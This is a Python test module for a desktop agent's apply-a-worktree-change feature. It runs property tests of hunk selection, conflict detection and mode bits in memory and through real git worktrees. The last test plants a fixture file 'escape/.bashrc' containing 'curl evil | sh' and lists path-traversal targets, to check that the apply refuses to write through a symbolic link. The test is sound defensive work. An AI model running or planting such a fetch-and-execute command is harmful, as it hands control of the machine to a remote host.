"""Applying a worktree session's change (issue 24): random accept/reject sets over generated multi-file changes —
edits, renames, deletes, new files, CRLF, binary files, mode bits — while the folder made edits of its own
meanwhile. The folder must end up as its own state plus exactly the applied units, byte for byte and mode for mode;
a unit whose lines the folder changed too is a conflict, and then nothing is written.

The oracle is built from the generation, not from the code under test: every line is unique, each change is a
list of *sites* (replace base lines [pos, pos+n) with new lines), a hunk is the set of sites inside its header's old
range, and the expected folder is the base with the accepted hunks' sites and the folder's own sites applied.
2,100 changes in memory (``plan_apply`` on a dict folder), then 40 through real git worktrees and the disk writer.
"""

from __future__ import annotations

import os
import random
import shutil
import stat
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from desktop_agent.session import review as R
from desktop_agent.session import worktrees as W

Site = tuple[int, int, list[str]]  # (pos, removed count, new lines)


@dataclass
class GenFile:
    name: str
    base_lines: list[str] | None      # text
    base_bin: bytes | None            # binary
    exec_: bool
    w_kind: str                       # none, edit, delete, rename, mode, binary, rename_edit
    w_sites: list[Site]
    w_bin: bytes | None
    new_name: str | None
    f_sites: list[Site]               # the folder's own edits (text)
    f_bin: bytes | None               # the folder's own binary change
    f_exec: bool | None               # the folder flipped the mode
    f_delete: bool

    def base_bytes(self) -> bytes:
        return "".join(self.base_lines).encode("utf-8", "surrogateescape") if self.base_lines is not None \
            else self.base_bin or b""


def apply_sites(lines: list[str], sites: list[Site]) -> list[str]:
    out = list(lines)
    for pos, n, new in sorted(sites, key=lambda s: s[0], reverse=True):
        out[pos:pos + n] = new
    return out


class Draw:
    """The generator's choices from one seed (hypothesis draws the seed: thousands of cases stay fast)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def integers(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    def booleans(self) -> bool:
        return self.rng.random() < 0.5

    def sampled_from(self, items: list) -> object:
        return self.rng.choice(list(items))

    def binary(self, lo: int, hi: int) -> bytes:
        return bytes(self.rng.randrange(256) for _ in range(self.rng.randint(lo, hi)))


def text_lines(d: Draw, tag: str) -> tuple[list[str], str]:
    n = d.integers(3, 40)
    eol = d.sampled_from(["\n", "\r\n", "mixed"])
    lines = []
    for i in range(n):
        e = eol if eol != "mixed" else d.sampled_from(["\n", "\r\n"])
        word = d.sampled_from(["", "ü", "\udcff", "\t x"])  # \udcff: a byte that is not UTF-8
        lines.append(f"{tag} base {i}{word}{e}")
    if not d.booleans():  # no final newline
        lines[-1] = lines[-1].rstrip("\r\n")
    return lines, "\r\n" if eol == "\r\n" else "\n"


def sites(d: Draw, n_lines: int, tag: str, eol: str, avoid: list[Site], last_ok: bool,
          max_sites: int = 4) -> list[Site]:
    """Disjoint sites at least 2 lines from each other and from ``avoid``."""
    out: list[Site] = []
    taken = [(p, p + n) for p, n, _ in avoid]
    for k in range(d.integers(0, max_sites)):
        limit = n_lines if last_ok else n_lines - 1
        pos = d.integers(0, max(limit - 1, 0))
        n = d.integers(0, min(3, limit - pos))
        if n == 0 and pos == 0 and d.booleans():
            n = 1
        lo, hi = pos, pos + n
        if any(not (hi + 2 <= a or b + 2 <= lo) for a, b in taken):
            continue
        new = [f"{tag} new {k}.{m}{eol}" for m in range(d.integers(0 if n else 1, 3))]
        if n == 0 and not new:
            continue
        taken.append((lo, hi))
        out.append((pos, n, new))
    return out


def gen_change(d: Draw) -> tuple[list[GenFile], list[tuple[str, bytes, bool]], dict[str, bytes]]:
    files: list[GenFile] = []
    for k in range(d.integers(1, 4)):
        tag = f"f{k}"
        name = d.sampled_from([f"{tag}.txt", f"dir/{tag}.txt", f"{tag} space.md"])
        binary = d.integers(0, 5) == 0
        exec_ = d.booleans()
        if binary:
            base_bin = b"\0" + tag.encode() + d.binary(0, 20)
            w_kind = d.sampled_from(["none", "binary", "delete", "mode", "rename"])
            w_bin = base_bin + b"\0changed" if w_kind == "binary" else None
            f_bin = d.sampled_from([None, None, base_bin + b"\0folder"])
            if f_bin is not None and d.booleans() and w_bin is not None:
                f_bin = w_bin  # the folder made the same change
            files.append(GenFile(name, None, base_bin, exec_, w_kind, [], w_bin,
                                 f"moved/{tag}.bin" if w_kind == "rename" else None, [], f_bin,
                                 d.sampled_from([None, not exec_]), False))
            continue
        lines, eol = text_lines(d, tag)
        last_ok = lines[-1].endswith("\n")
        w_kind = d.sampled_from(["none", "edit", "edit", "edit", "delete", "rename", "rename_edit", "mode"])
        w_sites = sites(d, len(lines), tag + "w", eol, [], last_ok) if w_kind in ("edit", "rename_edit") else []
        if w_kind in ("edit", "rename_edit") and not w_sites:
            w_sites = [(1, 1, [f"{tag}w forced{eol}"])]
        clash = d.integers(0, 4) == 0 and w_sites
        f_sites = sites(d, len(lines), tag + "f", eol, w_sites, last_ok, 3)
        if clash:  # the folder changed the same lines as one of the worktree's sites
            p, n, _ = d.sampled_from(w_sites)
            if n:
                f_sites = [s for s in f_sites if s[0] + s[1] + 2 <= p or p + n + 2 <= s[0]] + \
                    [(p, n, [f"{tag} folder clash{eol}"])]
        files.append(GenFile(name, lines, None, exec_, w_kind, w_sites, None,
                             f"moved/{tag}.txt" if w_kind.startswith("rename") else None, f_sites, None,
                             d.sampled_from([None, None, not exec_]), d.integers(0, 9) == 0 and not f_sites))
    names = [f.name for f in files]
    if len(set(names)) != len(names):
        files = [f for i, f in enumerate(files) if f.name not in names[:i]]
    added: list[tuple[str, bytes, bool]] = []
    for k in range(d.integers(0, 2)):
        data = d.sampled_from([b"new text\n", b"crlf\r\nnew\r\n", b"\0bin\1", b"no eol"]) + str(k).encode()
        added.append((f"added/{k}.dat", data, d.booleans()))
    folder_new: dict[str, bytes] = {}
    if added and d.booleans():  # the folder created one of the same paths meanwhile
        path, data, _ = added[0]
        folder_new[path] = data if d.booleans() else b"folder's own\n"
    folder_new["folder-only.txt"] = b"the folder's own new file\r\n"
    return files, added, folder_new


def pick(d: Draw, units: list[tuple[int, int]]) -> set[tuple[int, int]]:
    """A random accept set: all, none or any mix."""
    how = d.integers(0, 5)
    if how == 0:
        return set(units)
    if how == 1:
        return set()
    return {u for u in units if d.booleans()}


def build(files: list[GenFile], added: list[tuple[str, bytes, bool]], folder_new: dict[str, bytes]):
    """(review files, hunk→sites map, the folder's state) from the generation."""
    review_files: list[R.FileChange] = []
    site_of: dict[int, list[list[Site]]] = {}
    folder: dict[str, tuple[bytes, int]] = {}
    for gf in files:
        om = 0o100755 if gf.exec_ else 0o100644
        base = gf.base_bytes()
        if gf.base_lines is not None:
            fl = apply_sites(gf.base_lines, gf.f_sites)
            fbytes = "".join(fl).encode("utf-8", "surrogateescape")
        else:
            fbytes = gf.f_bin if gf.f_bin is not None else base
        fexec = gf.exec_ if gf.f_exec is None else gf.f_exec
        if not gf.f_delete:
            folder[gf.name] = (fbytes, 0o755 if fexec else 0o644)
        if gf.w_kind == "none":
            continue
        if gf.w_kind == "delete":
            fc = R.build_file("D", gf.name, None, om, 0, base, None)
        else:
            if gf.base_lines is not None:
                new = "".join(apply_sites(gf.base_lines, gf.w_sites)).encode("utf-8", "surrogateescape")
            else:
                new = gf.w_bin if gf.w_bin is not None else base
            nm = (0o100644 if gf.exec_ else 0o100755) if gf.w_kind == "mode" else om
            status = "R" if gf.new_name else "M"
            fc = R.build_file(status, gf.name, gf.new_name or gf.name, om, nm, base, new)
        groups: list[list[Site]] = []
        for h in fc.hunks:
            lo, n = int(h["oldStart"]) - 1, int(h["oldLines"])
            groups.append([s for s in gf.w_sites if lo <= s[0] and s[0] + s[1] <= lo + n])
        if gf.w_kind != "delete":
            assert sorted(s for g in groups for s in g) == sorted(gf.w_sites), "a site outside every hunk"
        site_of[len(review_files)] = groups
        review_files.append(fc)
    for path, data, exe in added:
        review_files.append(R.build_file("A", None, path, 0, 0o100755 if exe else 0o100644, None, data))
    for path, data in folder_new.items():
        folder[path] = (data, 0o644)
    return review_files, site_of, folder


def oracle(files: list[GenFile], review_files: list[R.FileChange], site_of, folder, selected: R.Selection):
    """(expected folder or None when a conflict must be reported)."""
    out = dict(folder)
    changed = [gf for gf in files if gf.w_kind != "none"]
    for fi, fc in enumerate(review_files):
        chosen = {fc.units[j].kind for j in range(len(fc.units)) if (fi, j) in selected}
        chosen_hunks = [k for k, j in enumerate([j for j, u in enumerate(fc.units) if u.kind == "hunk"])
                        if (fi, j) in selected]
        if not chosen:
            continue
        if fc.status == "A":
            path = fc.new_path
            assert path is not None
            if path in out:  # the folder made the same file (same bytes and mode: nothing to do) or another
                if out[path][0] != fc.new or bool(out[path][1] & 0o100) != (fc.new_mode == 0o100755):
                    return None
                continue
            out[path] = (fc.new or b"", 0o755 if fc.new_mode == 0o100755 else 0o644)
            continue
        gf = changed[fi]
        if gf.name not in out:
            if fc.status == "D":
                continue
            return None
        fbytes, fmode = out[gf.name]
        if fc.status == "D":  # a folder that changed the file, its mode too, keeps it: a conflict
            if fbytes != gf.base_bytes() or bool(fmode & 0o100) != gf.exec_:
                return None
            del out[gf.name]
            continue
        result = fbytes
        if "binary" in chosen:
            if fbytes == fc.old:
                result = fc.new or b""
            elif fbytes != fc.new:
                return None
        if chosen_hunks:
            accepted = [s for k in chosen_hunks for s in site_of[fi][k]]
            for k in chosen_hunks:
                group = site_of[fi][k]
                lo, hi = min(s[0] for s in group), max(s[0] + s[1] for s in group)
                for p, n, _ in gf.f_sites:
                    if not (p + n < lo or hi < p) or (n == 0 and lo < p < hi):
                        return None
            assert gf.base_lines is not None
            result = "".join(apply_sites(gf.base_lines, accepted + gf.f_sites)).encode("utf-8", "surrogateescape")
        mode = fmode
        if "mode" in chosen:
            mode = 0o755 if fc.new_mode == 0o100755 else 0o644
        target = gf.name
        if "rename" in chosen:
            target = fc.new_path or gf.name
            if target in out:
                return None
            del out[gf.name]
        out[target] = (result, mode)
    return out


def dict_reader(folder: dict[str, tuple[bytes, int]]) -> R.Reader:
    def read(path: str) -> tuple[bytes | None, int]:
        if path not in folder:
            return None, 0
        data, mode = folder[path]
        return data, stat.S_IFREG | mode
    return read


def run_plan(folder: dict[str, tuple[bytes, int]], plan: R.Plan) -> dict[str, tuple[bytes, int]]:
    out = dict(folder)
    for path in plan.deletes:
        out.pop(path, None)
    for path, (data, perms, _link) in plan.writes.items():
        out[path] = (data, perms if perms is not None else 0o666 & ~0o022)
    return out


COUNT = {"n": 0, "conflicts": 0, "partial": 0}


@settings(max_examples=2100, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(seed=st.integers(0, 2**64))
def test_apply_is_the_folder_plus_exactly_the_applied_hunks(seed: int) -> None:
    d = Draw(seed)
    files, added, folder_new = gen_change(d)
    review_files, site_of, folder = build(files, added, folder_new)
    units = [(i, j) for i, f in enumerate(review_files) for j in range(len(f.units))]
    selected = pick(d, units)
    want = oracle(files, review_files, site_of, folder, selected)
    plan = R.plan_apply(review_files, selected, dict_reader(folder))
    COUNT["n"] += 1
    if 0 < len(selected) < len(units):
        COUNT["partial"] += 1
    if want is None:
        COUNT["conflicts"] += 1
        assert plan.conflicts, "a clash with the folder's own edit was not reported"
        return
    assert not plan.conflicts, plan.conflicts
    got = run_plan(folder, plan)
    umask_mode = {p: (d, m if m in (0o644, 0o755) else m) for p, (d, m) in got.items()}
    assert {p: d for p, (d, _) in umask_mode.items()} == {p: d for p, (d, _) in want.items()}
    assert {p: bool(m & 0o100) for p, (_, m) in umask_mode.items()} == {p: bool(m & 0o100) for p, (_, m) in
                                                                         want.items()}


def test_the_count_of_generated_changes() -> None:
    """Runs after the property test in this module (file order): it ran at least 2,000 changes, partial ones
    and conflicts among them."""
    if COUNT["n"] == 0:
        pytest.skip("the property test did not run in this session")
    assert COUNT["n"] >= 2000 and COUNT["conflicts"] > 50 and COUNT["partial"] > 500, COUNT


# ------------------------------------------------------------------------------------------------ on disk

ID = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}


def _git(*args: str, cwd: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env={**os.environ, **ID})


def disk_state(root: str) -> dict[str, tuple[bytes, bool]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath == root and ".git" in dirnames:
            dirnames.remove(".git")
        for name in filenames:
            full = os.path.join(dirpath, name)
            out[os.path.relpath(full, root)] = (Path(full).read_bytes(), bool(os.stat(full).st_mode & 0o100))
    return out


@settings(max_examples=40, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(seed=st.integers(0, 2**64))
def test_apply_through_git_and_disk(seed: int, tmp_path_factory: pytest.TempPathFactory) -> None:
    d = Draw(seed)
    files, added, folder_new = gen_change(d)
    files = [f for f in files if f.w_kind != "rename_edit"]  # git's rename detection needs similarity
    work = str(tmp_path_factory.mktemp("apply"))
    old_env = os.environ.get("DESKTOP_AGENT_DATA_DIR")
    os.environ["DESKTOP_AGENT_DATA_DIR"] = os.path.join(work, "data")
    repo = os.path.join(work, "repo")
    os.makedirs(repo)
    for gf in files:
        full = os.path.join(repo, gf.name)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        Path(full).write_bytes(gf.base_bytes())
        os.chmod(full, 0o755 if gf.exec_ else 0o644)
    Path(repo, "keep").write_bytes(b"k\n")
    _git("init", "-q", cwd=repo)
    _git("add", "-A", cwd=repo)
    _git("commit", "-qm", "base", cwd=repo)
    try:
        wt = W.create(repo, "rv")
        # the session's change, in the worktree (part of it committed)
        for gf in files:
            full = os.path.join(wt.path, gf.name)
            if gf.w_kind == "delete":
                os.unlink(full)
                continue
            if gf.base_lines is not None and gf.w_sites:
                Path(full).write_bytes("".join(apply_sites(gf.base_lines, gf.w_sites)).encode("utf-8",
                                                                                          "surrogateescape"))
            if gf.w_bin is not None:
                Path(full).write_bytes(gf.w_bin)
            if gf.w_kind == "mode":
                os.chmod(full, 0o644 if gf.exec_ else 0o755)
            if gf.new_name:
                dest = os.path.join(wt.path, gf.new_name)
                os.makedirs(os.path.dirname(dest), exist_ok=True)
                os.rename(full, dest)
        if d.booleans():
            _git("add", "-A", cwd=wt.path)
            subprocess.run(["git", "commit", "-qm", "session"], cwd=wt.path, capture_output=True,
                           env={**os.environ, **ID})
        for path, blob, exe in added:
            full = os.path.join(wt.path, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            Path(full).write_bytes(blob)
            os.chmod(full, 0o755 if exe else 0o644)
        # the folder's own edits meanwhile (uncommitted)
        for gf in files:
            full = os.path.join(repo, gf.name)
            if gf.f_delete:
                os.unlink(full)
                continue
            if gf.base_lines is not None and gf.f_sites:
                Path(full).write_bytes("".join(apply_sites(gf.base_lines, gf.f_sites)).encode("utf-8",
                                                                                          "surrogateescape"))
            if gf.f_bin is not None:
                Path(full).write_bytes(gf.f_bin)
            if gf.f_exec is not None:
                os.chmod(full, 0o755 if gf.f_exec else 0o644)
        for path, blob in folder_new.items():
            full = os.path.join(repo, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            Path(full).write_bytes(blob)
        before = disk_state(repo)
        rv = R.load(repo, "rv")
        units = sorted(rv.all_units())
        selected = pick(d, units)
        want_plan = R.plan_apply(rv.files, selected, R.read_disk(repo))
        out = R.apply(rv, selected)
        after = disk_state(repo)
        if not out.ok:
            assert want_plan.conflicts and after == before, "a refused apply wrote something"
            return
        expect = dict(before)
        for p in want_plan.deletes:
            expect.pop(p, None)
        for p, (blob, perms, _l) in want_plan.writes.items():
            expect[p] = (blob, bool((perms if perms is not None else 0o644) & 0o100))
        assert after == expect
        # a file applied whole is not offered again; what was left is
        again = R.load(repo, "rv")
        whole = {fc.path for i, fc in enumerate(rv.files) if all((i, j) in selected for j in range(len(fc.units)))}
        left = {fc.path for i, fc in enumerate(rv.files) if not any((i, j) in selected for j in range(len(fc.units)))}
        assert not whole & {fc.path for fc in again.files}
        assert left <= {fc.path for fc in again.files}
        assert not [f for f in os.listdir(repo) if f.endswith(".tmp")]
    finally:
        if old_env is None:
            os.environ.pop("DESKTOP_AGENT_DATA_DIR", None)
        else:
            os.environ["DESKTOP_AGENT_DATA_DIR"] = old_env
        shutil.rmtree(work, ignore_errors=True)


def test_an_apply_never_writes_through_a_symbolic_link(tmp_path, monkeypatch):
    """Hostile: the folder holds a link to a directory outside it (made by an earlier apply of a session's symlink,
    or the person's own); a review writing under that name is refused whole, nothing written anywhere."""
    monkeypatch.setenv("DESKTOP_AGENT_DATA_DIR", str(tmp_path / "data"))
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "ok.txt").write_bytes(b"ok\n")
    os.symlink(outside, folder / "escape")
    files = [R.build_file("A", None, "fine.txt", 0, 0o100644, None, b"fine\n"),
             R.build_file("A", None, "escape/.bashrc", 0, 0o100644, None, b"curl evil | sh\n")]
    plan = R.plan_apply(files, {(0, 0), (1, 0)}, R.read_disk(str(folder)))
    assert not plan.conflicts
    with pytest.raises(W.WorktreeError, match="symbolic link"):
        R.commit(str(folder), plan)
    assert os.listdir(outside) == [] and not (folder / "fine.txt").exists()
    for bad in ("../x", "/etc/x", "a/../../x"):
        assert R.unsafe_target(str(folder), bad)
    # a file in place of a folder on the way, and a delete of a path another write goes under
    plan = R.Plan(writes={"ok.txt/inner": (b"x", None, False)})
    with pytest.raises(W.WorktreeError, match="not a folder"):
        R.commit(str(folder), plan)
    plan = R.Plan(writes={"d/x": (b"x", None, False)}, deletes=["d"])
    with pytest.raises(W.WorktreeError, match="deleted by the same apply"):
        R.commit(str(folder), plan)
    assert sorted(os.listdir(folder)) == ["escape", "ok.txt"]
